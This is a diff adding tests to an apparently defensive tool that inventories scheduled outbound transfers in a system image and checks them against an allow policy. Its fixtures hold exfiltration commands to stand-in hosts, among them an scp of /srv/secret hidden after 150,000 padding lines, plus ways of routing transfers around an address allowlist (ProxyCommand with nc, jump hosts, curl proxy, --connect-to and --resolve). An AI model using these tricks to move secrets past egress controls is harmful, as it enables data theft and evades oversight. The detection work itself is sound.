@@ -60,3 +60,40 @@ def _():
     write("image/etc/crontab", "0 3 * * * root curl -u me:Sw0rdfish -T f ftp://a.example/\n")
     lacks(run("inventory", "--root", "image", "--format", "csv").out, "Sw0rdfish")
     has(run("inventory", "--root", "image", "--format", "csv", "--no-mask").out, "Sw0rdfish")
+
+
+@test("inventory: what is too much to be read or followed is said, and hides nothing in silence")
+def _():
+    image()
+    hidden = "0 3 * * * root scp /srv/secret drop@203.0.113.66:\n"
+    write("image/etc/crontab", LINE + "# padding\n" * 150_000 + hidden)
+    said = run("inventory", "--root", "image", code=3)
+    has(said.err, "etc/crontab: may start things, but is too large to be read to its end")
+    has(run("scan", "--root", "image").err, "etc/crontab: may start things")
+    write("image/etc/crontab", "".join(f"0 3 * * * root scp /srv/{i} drop@198.51.100.9:\n" for i in range(5000)) + hidden)
+    has(run("inventory", "--root", "image", code=0).out, "203.0.113.66", "5,001 registered transfers, 5,001 to")
+    write("image/etc/crontab", "0 3 * * * root /opt/big.sh\n0 4 * * * root /opt/deep.sh\n")
+    write("image/opt/big.sh", "#!/bin/sh\n" + "# padding\n" * 150_000 + "scp /srv/secret drop@203.0.113.66:\n")
+    has(run("inventory", "--root", "image", code=3).err, "/opt/big.sh: too large to be read to the end")
+    write("image/opt/big.sh", "#!/bin/sh\n")
+    for i, name in enumerate(("deep", "deeper", "deepest", "last")):
+        write(f"image/opt/{name}.sh", f"#!/bin/sh\n/opt/{('deeper', 'deepest', 'last', 'none')[i]}.sh\n")
+    has(run("inventory", "--root", "image", code=0).err, "1 script not followed")
+
+
+@test("inventory: who would be spoken to is what the policy is asked about")
+def _():
+    image()
+    own = write("own.conf", "[allow feed]\naddress = 198.51.100.0/24\nport = 22\n[allow web]\naddress = 198.51.100.0/24\nport = 443\n")
+    write("image/etc/crontab", "".join(f"{i} 3 * * * root {line}\n" for i, line in enumerate((
+        "scp /srv/a d@198.51.100.1:",
+        "scp -J 203.0.113.7 /srv/a d@198.51.100.1:",
+        "scp -o ProxyCommand='nc 203.0.113.7 22' /srv/a d@198.51.100.1:",
+        "scp -oHostName=203.0.113.7 /srv/a d@198.51.100.1:",
+        "curl -T /srv/a https://198.51.100.1/",
+        "curl -x 203.0.113.7:3128 -T /srv/a https://198.51.100.1/",
+        "curl --connect-to ::203.0.113.7: -T /srv/a https://198.51.100.1/",
+        "curl --resolve 198.51.100.1:443:203.0.113.7 -T /srv/a https://198.51.100.1/"))))
+    found = [row for row in run("inventory", "--root", "image", "--rules", own, "--format", "jsonl").rows()
+             if row["type"] == "registered"]
+    check([row["approved"] for row in found] == [True] + 3 * [False] + [True] + 3 * [False], "approved", found)
